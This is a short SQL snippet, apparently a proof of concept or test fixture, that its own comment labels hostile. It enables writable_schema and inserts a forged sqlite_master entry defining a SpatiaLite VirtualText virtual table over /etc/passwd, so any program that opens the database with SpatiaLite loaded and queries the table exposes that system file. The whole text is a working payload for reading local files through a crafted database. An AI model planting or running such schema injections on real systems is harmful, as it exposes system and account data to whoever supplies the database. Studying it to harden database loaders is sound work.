-- hostile: a table that reads the passwords of the computer, where SpatiaLite is loaded
pragma writable_schema = 1;
insert into sqlite_master values ('table', 'evil', 'evil', 0,
    'CREATE VIRTUAL TABLE evil USING VirtualText(''/etc/passwd'', ''UTF-8'', 0, POINT, DOUBLEQUOTE, '':'')');
